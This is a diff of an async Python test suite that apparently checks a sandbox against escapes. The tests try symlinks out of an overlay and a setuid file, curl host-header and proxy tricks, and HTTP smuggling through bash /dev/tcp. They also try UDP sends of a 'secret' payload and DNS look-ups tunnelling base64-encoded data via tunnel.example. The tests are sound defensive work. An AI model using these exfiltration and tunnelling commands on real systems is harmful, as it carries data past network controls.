@@ -142,7 +142,7 @@ async def test_a_link_out_of_the_overlay_is_never_followed_when_changes_are_carr
     async with bench.box() as box:
         await sh(
             box,
-            f"ln -s {target} absolute; ln -s ../../x climbing; ln -s inner fine; mkfifo pipe; echo x >su; chmod 4755 su",
+            f"ln -s {target} absolute; ln -s ../../x climbing; ln -s inner fine; mkfifo pipe; touch su; chmod 4755 su",
         )
         refused = {c.path: c.refused for c in await box.changes()}
         assert refused["fine"] is None
@@ -228,7 +228,8 @@ async def test_one_name_is_no_way_to_another(bench: Bench) -> None:
                 "curl -sS -m 5 -H 'Host: other.example' http://packages.example/",
                 "curl -sS -m 5 --connect-to other.example:443:packages.example:443 -k https://other.example/",
                 "curl -sS -m 5 -x http://packages.example:80 http://other.example/",
-                "printf 'GET / HTTP/1.1\\r\\nHost: packages.example\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n' "
+                "printf 'GET / HTTP/1.1\\r\\nHost: packages.example\\r\\n\\r\\n"
+                "GET / HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n' "
                 "| timeout 5 bash -c 'exec 3<>/dev/tcp/packages.example/80; cat >&3; cat <&3' | grep -c served",
             ):
                 text = await sh(box, script)
@@ -240,7 +241,7 @@ async def test_one_name_is_no_way_to_another(bench: Bench) -> None:
 
 async def test_datagrams_and_name_look_ups_carry_nothing_out(bench: Bench) -> None:
     here = own_address()
-    send = "python3 -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'secret', ('{}', {}))\""
+    send = "python3 -c \"import socket as s; s.socket(s.AF_INET, s.SOCK_DGRAM).sendto(b'secret', ('{}', {}))\""
     with udp_server() as (server, port):
         outside(send.format(here, port))
         assert server.recv(100) == b"secret"
@@ -249,7 +250,7 @@ async def test_datagrams_and_name_look_ups_carry_nothing_out(bench: Bench) -> No
                 await sh(box, send.format(address, to))
             with pytest.raises(TimeoutError):
                 server.recv(100)
-            names = "import socket\nfor n in range(50):\n try: socket.gethostbyname(f'{n}-c2VjcmV0.tunnel.example')\n except OSError: pass\n"
+            names = "import socket\nfor n in range(50): socket.gethostbyname(f'{n}-c2VjcmV0.tunnel.example')\n"
             assert (await box.run(["python3", "-c", names])).status == 0
             text = await sh(box, "python3 -c \"import socket; print(socket.gethostbyname('c2VjcmV0.tunnel.example'))\"")
             assert text.startswith("198.18."), (
